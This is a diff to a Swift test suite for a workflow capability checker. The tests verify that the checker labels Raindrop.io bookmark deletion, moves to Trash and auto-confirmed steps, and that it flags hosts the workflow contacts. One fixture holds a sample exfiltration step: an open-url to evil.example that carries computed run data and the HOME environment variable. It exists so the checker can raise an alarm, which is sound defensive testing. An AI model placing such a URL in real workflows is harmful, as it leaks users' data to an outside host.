@@ -54,10 +54,11 @@ struct CapabilityTests {
             method: ${input.verb}
         - open-url: https://swift.org
       """)
-    #expect(found.hosts.map(\.host) == ["example.com", "api.example.org"])
+    #expect(found.hosts.map(\.host) == ["example.com", "api.example.org", "swift.org"])
     #expect(found.anyHost.map(\.position) == ["3"])
     // A POST changes something; a method computed at run time could be any, so it counts as the worst.
     #expect(found.otherChanges.map(\.step.position) == ["2", "4", "5"])
+    #expect(found.otherChanges.map(\.effect) == ["changes", "destructive", "changes"])
     #expect(found.apps.isEmpty)
   }
 
@@ -166,15 +167,76 @@ struct CapabilityTests {
         "reads Raindrop.io bookmarks (1 step)",
         "deletes Raindrop.io bookmarks (1 step)",
         "contacts api.raindrop.io",
-        "may contact any host: the URL is computed at run time in get-url (step 3)",
+        "may contact any host, and send it anything: the URL is computed at run time in get-url (step 3)",
         "reads environment variables HOME",
         "delete-bookmark (step 2) is confirmed without asking, and deletes (confirmations: auto)",
       ])
-    let tones: [CapabilityLines.Tone] = [.plain, .deletes, .plain, .changes, .plain, .alarm]
+    let tones: [CapabilityLines.Tone] = [.plain, .deletes, .plain, .alarm, .plain, .alarm]
     #expect(lines.map(\.tone) == tones)
     #expect(
       CapabilityLines.lines(try capabilities("flow: 1\nsteps:\n  - show: hi\n")).map(\.text.description) == [
         "nothing outside the workflow: no app data, no host, no environment"
+      ])
+  }
+
+  /// Issue 16: moving to Trash is deleting, whether the step names Trash or computes where to move.
+  @Test func aMoveToTrashDeletes() throws {
+    let found = try capabilities(
+      """
+      flow: 1
+      confirmations: auto
+      steps:
+        - get-bookmarks:
+            max-results: all
+          as: everything
+        - update-bookmarks:
+            bookmarks: ${everything}
+            move-to: Trash
+        - update-bookmarks:
+            bookmarks: ${everything}
+            move-to: ${everything.first.title}
+        - update-bookmarks:
+            bookmarks: ${everything}
+            move-to: Unsorted
+            add-tags: [kept]
+      """)
+    let raindrop = try #require(found.apps.first)
+    #expect(raindrop.steps.map(\.effect) == ["read-only", "destructive", "destructive", "changes"])
+    // Each asks when run; confirmations: auto answers them, which the card shows in red.
+    #expect(found.unattended.map(\.step.position) == ["2", "3"])
+    #expect(found.deletesWithoutAsking)
+    let lines = CapabilityLines.lines(found)
+    #expect(lines.contains { $0.text.description == "deletes Raindrop.io bookmarks (2 steps)" && $0.tone == .deletes })
+  }
+
+  /// Issue 16: opening a URL contacts its host; the host of a URL with computed parts gets what they
+  /// hold; a computed host is any host; and the URL is a process argument other users can read.
+  @Test func openURLHostsAndTheDataTheyGet() throws {
+    let found = try capabilities(
+      """
+      flow: 1
+      env: [HOME]
+      steps:
+        - open-url: https://swift.org/blog
+        - open-url: https://evil.example/collect?d=${previous}&h=${env.HOME}
+        - open-url: https://evil.example${previous}
+        - open-url: ${previous}
+        - open-url: mailto:ada@example.com
+      """)
+    #expect(found.hosts.map(\.host) == ["swift.org", "evil.example"])
+    #expect(found.dataSent.map(\.host) == ["evil.example"])
+    #expect(found.dataSent.first?.steps.map(\.position) == ["2"])
+    // `https://evil.example${previous}` could be `https://evil.example.other.net`.
+    #expect(found.anyHost.map(\.position) == ["3", "4"])
+    #expect(found.exposedArguments.map(\.position) == ["2", "3", "4"])
+    let lines = CapabilityLines.lines(found).filter { $0.tone == .alarm }.map(\.text.description)
+    #expect(
+      lines == [
+        "sends what the run computes to evil.example, in the URL of open-url (step 2)",
+        "may contact any host, and send it anything: the URL is computed at run time in open-url (step 3), "
+          + "open-url (step 4)",
+        "shows what the run computes to every user of this machine, as a command-line argument of another "
+          + "program: open-url (step 2), open-url (step 3), open-url (step 4)",
       ])
   }
 }
